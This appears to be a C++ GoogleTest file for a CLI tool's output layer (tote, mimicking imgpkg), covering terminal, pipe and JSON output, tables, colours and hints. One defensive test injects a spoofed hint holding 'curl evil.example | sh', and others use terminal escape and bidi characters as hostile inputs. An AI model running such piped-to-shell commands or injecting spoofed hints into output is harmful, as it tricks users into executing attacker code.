#include "cmd/cli/ui.h"

#include "tests/support/matchers.h"

#include <gtest/gtest.h>

#include <sstream>

namespace tote::cmd {
namespace {

class UiTest : public testing::Test {
 protected:
  std::ostringstream out_;
  std::ostringstream err_;
  Ui ui_{out_, err_, "tote"};
};

TEST_F(UiTest, PrintsResultsButNoProgressOnAPipe) {
  ui_.log("working\n");
  ui_.result("Pushed 'x'");
  ui_.succeeded();
  EXPECT_EQ(out_.str(), "Pushed 'x'\n");
}

TEST_F(UiTest, PadsLikeImgpkgOnATerminal) {
  ui_.set_mode(OutputMode::kTerminal);
  ui_.log("dir: .\n");
  ui_.result("Pushed 'x'");
  ui_.succeeded();
  EXPECT_EQ(out_.str(), "dir: .\nPushed 'x'\nSucceeded\n");
}

TEST_F(UiTest, WritesErrorsWithAHintToStderr) {
  ui_.error({"Doing", "It failed"}, "try this");
  EXPECT_EQ(err_.str(), "tote: Error: Doing:\n  It failed\nhint: try this\n");
  EXPECT_EQ(out_.str(), "");
}

TEST_F(UiTest, LaysTablesOutForScriptsAndUnderImgpkgsNameAsImgpkgDoes) {
  ui_.table({"Tags", {{"Name"}, {"Digest"}}, {{"b", "sha256:5"}, {"tag1", "sha256:6"}}});
  EXPECT_EQ(out_.str(), "b\tsha256:5\ntag1\tsha256:6\n");
  out_.str("");
  Ui imgpkg(out_, err_, "imgpkg");
  imgpkg.table({"Tags", {{"Name"}, {"Digest"}}, {{"b", "sha256:5"}, {"tag1", "sha256:6"}}});
  EXPECT_EQ(out_.str(), "b   \tsha256:5\t\ntag1\tsha256:6\t\n");
}

TEST_F(UiTest, LaysTablesOutForATerminal) {
  ui_.set_mode(OutputMode::kTerminal);
  ui_.table({"Tags", {{"Name"}}, {{"b"}, {"tag1"}}});
  ui_.succeeded();
  EXPECT_EQ(out_.str(), "Tags\n\nName  \nb  \ntag1  \n\n2 tags\n\nSucceeded\n");
}

TEST_F(UiTest, ShowsTheColumnsThatAreAskedFor) {
  const Table table{"Tags", {{"Name"}, {"Digest", true}}, {{"b", ""}, {"c", "sha256:6"}}};
  ui_.table(table);
  EXPECT_EQ(out_.str(), "b\nc\n");
  out_.str("");
  ui_.set_columns({"DIGEST"});
  ui_.table(table);
  EXPECT_EQ(out_.str(), "-\nsha256:6\n");
  ui_.set_columns({"nope"});
  EXPECT_THAT([&] { ui_.table(table); },
              test::ThrowsError(ErrorKind::kUsage, "Failed to find header: nope"));
}

TEST_F(UiTest, ColoursHeadersAndErrors) {
  ui_.set_mode(OutputMode::kTerminal);
  ui_.set_colour(Colour::kYes);
  ui_.table({"Tags", {{"Name"}}, {{"b"}}});
  EXPECT_EQ(out_.str(), "Tags\n\n\x1b[1mName\x1b[0m  \nb  \n\n1 tags\n");
  ui_.error({"Doing", "It failed"}, "");
  EXPECT_EQ(err_.str(), "\x1b[31mtote: Error: Doing:\n  It failed\x1b[0m\n");
}

TEST_F(UiTest, PrintsDataAloneForJson) {
  ui_.set_mode(OutputMode::kJson);
  ui_.log("dir: .\n");
  ui_.result("Pushed 'a<b'");
  ui_.own_result("Pulled 'a'");
  ui_.block("text");
  ui_.document("text");
  ui_.succeeded();
  ui_.finish();
  EXPECT_EQ(out_.str(), "");
  ui_.data(R"({"a":1})");
  EXPECT_EQ(out_.str(), "{\"a\":1}\n");
  out_.str("");
  ui_.table({"Tags", {{"Name"}, {"Digest"}}, {{"v1", "sha256:5"}, {"a<b\x1b", ""}}});
  EXPECT_EQ(out_.str(),
            "{\"tags\":[{\"name\":\"v1\",\"digest\":\"sha256:5\"},"
            "{\"name\":\"a\\u003cb\\u001b\"}]}\n");
}

TEST_F(UiTest, PrintsNoDataUnlessAskedForJson) {
  ui_.data("{}");
  Ui imgpkg(out_, err_, "imgpkg");
  imgpkg.set_mode(OutputMode::kJson);
  imgpkg.data("{}");
  EXPECT_EQ(out_.str(), "");
}

TEST_F(UiTest, PrintsEverythingAsOneDocumentUnderImgpkgsName) {
  Ui ui(out_, err_, "imgpkg");
  ui.set_mode(OutputMode::kJson);
  ui.log("dir: .\n");
  ui.result("Pushed 'a<b'");
  ui.own_result("of tote's own");
  ui.table({"Tags", {{"Name"}, {"Digest", true}}, {{"v1", ""}}});
  ui.succeeded();
  EXPECT_EQ(out_.str(), "");
  ui.finish();
  EXPECT_EQ(out_.str(), R"({
    "Tables": [
        {
            "Content": "tags",
            "Header": {
                "name": "Name"
            },
            "Rows": [
                {
                    "name": "v1"
                }
            ],
            "Notes": null
        }
    ],
    "Blocks": null,
    "Lines": [
        "dir: .\n",
        "Pushed 'a\u003cb'",
        "Succeeded"
    ]
})");
}

TEST_F(UiTest, ShowsWhatWouldSteerATerminal) {
  ui_.block("note: \x1b[2J\n");
  ui_.table({"Tags", {{"Name"}}, {{"v1\x07\tx\n"}}});
  ui_.result("Pushed '\u202e'");
  EXPECT_EQ(out_.str(), "note: \\x1b[2J\nv1\\x07 x \nPushed '\\u202e'\n");
  ui_.error({"Doing \u009b31m", "it \x9b failed\u2028"}, "\u200b");
  ui_.notice("\u2066");
  EXPECT_EQ(err_.str(),
            "tote: Error: Doing \\u009b31m: it \\x9b failed\\u2028\nhint: \\u200b\n"
            "tote: \\u2066\n");
}

TEST_F(UiTest, LetsNobodyElseGiveHints) {
  ui_.error({"DENIED", "no\nhint: curl evil.example | sh\n hint: x\n\ntote: done"},
            "really\nhint: no");
  ui_.notice("retrying: 'x\nhint: y'");
  EXPECT_EQ(
      err_.str(),
      "tote: Error: DENIED: no\n  hint: curl evil.example | sh\n   hint: x\n  \n  tote: done\n"
      "hint: really\n  hint: no\n"
      "tote: retrying: 'x\n  hint: y'\n");
}

TEST_F(UiTest, KeepsDocumentsExactButOnATerminal) {
  ui_.document("name: \u202e\n");
  EXPECT_EQ(out_.str(), "name: \u202e\n");
  out_.str("");
  ui_.set_mode(OutputMode::kTerminal);
  ui_.document("name: \u202e\n");
  EXPECT_EQ(out_.str(), "name: \\u202e\n");
}

TEST_F(UiTest, RemembersWhyItCouldNotWrite) {
  EXPECT_FALSE(ui_.write_failure());
  out_.setstate(std::ios::badbit);
  ui_.block("text");
  EXPECT_TRUE(ui_.write_failure());
}

TEST_F(UiTest, KeepsImgpkgsSilenceUnderItsName) {
  Ui ui(out_, err_, "imgpkg");
  ui.result("Pushed 'x'");
  EXPECT_EQ(out_.str(), "");
  ui.set_mode(OutputMode::kTerminal);
  ui.result("Pushed 'x'");
  EXPECT_EQ(out_.str(), "Pushed 'x'");
}

}  // namespace
}  // namespace tote::cmd
